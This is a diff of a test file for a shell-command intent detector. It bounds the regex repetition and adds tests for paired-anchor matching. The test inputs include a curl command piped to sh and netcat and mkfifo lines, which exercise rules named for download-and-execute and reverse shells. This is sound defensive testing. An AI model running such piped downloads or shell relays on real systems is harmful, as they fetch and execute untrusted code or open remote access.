@@ -336,14 +336,25 @@ def test_a_pod_named_proxy_is_not_a_proxy_request():
 
 # --------------------------------------------------------------------------- hostile input
 _ESCAPED_OR_CLASS = re.compile(r"\\.|\[\^?\]?[^\]]*\]")
+_BOUND = re.compile(r"\{\d{1,4},(\d{1,4})\}")
 
 
-def test_every_intent_pattern_repeats_only_boundedly():
-    """Linear matching by construction: with escapes and character classes set aside, no pattern holds a * or +,
-    so each match attempt scans a bounded window (checked on the patterns, not with a clock)."""
+def test_every_intent_pattern_repeats_only_within_small_bounds():
+    """Linear matching by construction: with escapes and character classes set aside, no regex holds a * or +, and
+    no bound exceeds 64, so each match attempt scans a small window; longer reaches are Near pairs, matched on
+    the anchors' positions (checked on the patterns, not with a clock)."""
     for intent in INTENTS:
-        bare = _ESCAPED_OR_CLASS.sub("x", intent.pattern)
-        assert "*" not in bare and "+" not in bare, intent.name
+        for regex in intent.regexes():
+            bare = _ESCAPED_OR_CLASS.sub("x", regex)
+            assert "*" not in bare and "+" not in bare, intent.name
+            assert all(int(bound) <= 64 for bound in _BOUND.findall(regex)), intent.name
+
+
+def test_near_pairs_respect_gap_and_barrier():
+    assert "download_exec:pipe_to_interpreter" in command_intents("curl -s http://x/i" + " -H a" * 90 + " | sh")
+    assert "download_exec:pipe_to_interpreter" not in command_intents("curl -s http://x/i" + " -H a" * 110 + " | sh")
+    assert "download_exec:pipe_to_interpreter" not in command_intents("curl -s http://x/i > /tmp/i; cat /tmp/i | sh")
+    assert "reverse_shell:fifo_relay" not in command_intents("nc -zv db 5432; mkfifo /tmp/p")  # the pipe must come first
 
 
 def test_decode_issues_are_declared():
